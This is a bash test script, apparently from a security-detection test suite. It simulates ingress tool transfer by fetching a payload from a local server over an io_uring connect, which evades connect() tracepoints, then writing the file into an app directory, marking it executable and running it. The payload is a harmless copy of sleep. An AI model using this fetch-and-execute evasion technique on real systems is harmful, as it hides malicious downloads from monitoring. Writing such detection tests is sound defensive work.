#!/usr/bin/env bash
# A service's helper fetches its payload over a socket it connected through
# io_uring (IORING_OP_CONNECT: no connect() syscall for the tracepoints to
# see), writes it into the application directory, makes it executable and
# runs it.
# expect: ingress_tool_transfer
. "$(dirname "$0")/../lib.sh"
mkdir -p "$VS_DIR/www"; cp /bin/sleep "$VS_DIR/www/payload"
www=$(vs_serve_dir "$VS_DIR/www")
app=$(vs_app_root); mkdir -p "$app/lib"
timeout -s KILL 20 python3 - "$www" "$app/lib/update-worker" <<'PY' >/dev/null 2>&1
import ctypes, mmap, os, socket, struct, sys

port, dest = int(sys.argv[1]), sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long

params = ctypes.create_string_buffer(120)
ring = libc.syscall(L(425), L(4), params)  # io_uring_setup
if ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring_setup")
sq_entries, cq_entries = struct.unpack_from("II", params, 0)
sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from("6I", params, 80)
rw = mmap.PROT_READ | mmap.PROT_WRITE
sq = mmap.mmap(ring, sq_array + 4 * sq_entries, mmap.MAP_SHARED, rw, offset=0)
cq = mmap.mmap(ring, cqes + 16 * cq_entries, mmap.MAP_SHARED, rw, offset=0x8000000)
sqes = mmap.mmap(ring, 64 * sq_entries, mmap.MAP_SHARED, rw, offset=0x10000000)

s = socket.socket()
sa = struct.pack("<H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
abuf = ctypes.create_string_buffer(sa, len(sa))
tail = struct.unpack_from("I", sq, sq_tail)[0]
idx = tail & struct.unpack_from("I", sq, sq_mask)[0]
# opcode 16 (IORING_OP_CONNECT), fd, off = address length, addr = sockaddr.
struct.pack_into("BBHiQQIIQ24x", sqes, 64 * idx, 16, 0, 0, s.fileno(), len(sa), ctypes.addressof(abuf), 0, 0, 1)
struct.pack_into("I", sq, sq_array + 4 * idx, idx)
struct.pack_into("I", sq, sq_tail, tail + 1)
if libc.syscall(L(426), L(ring), L(1), L(1), L(1), None, L(0)) != 1:  # io_uring_enter
    raise OSError(ctypes.get_errno(), "io_uring_enter")
head = struct.unpack_from("I", cq, cq_head)[0]
res = struct.unpack_from("i", cq, cqes + 16 * (head & struct.unpack_from("I", cq, cq_mask)[0]) + 8)[0]
if res != 0:
    raise OSError(-res, "io_uring connect")

s.sendall(b"GET /payload HTTP/1.0\r\nHost: updates\r\n\r\n")
reply = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    reply += chunk
body = reply.split(b"\r\n\r\n", 1)[1]
with open(dest, "wb") as f:
    f.write(body)
os.chmod(dest, 0o755)
os.execv(dest, [dest, "0.3"])
PY
true
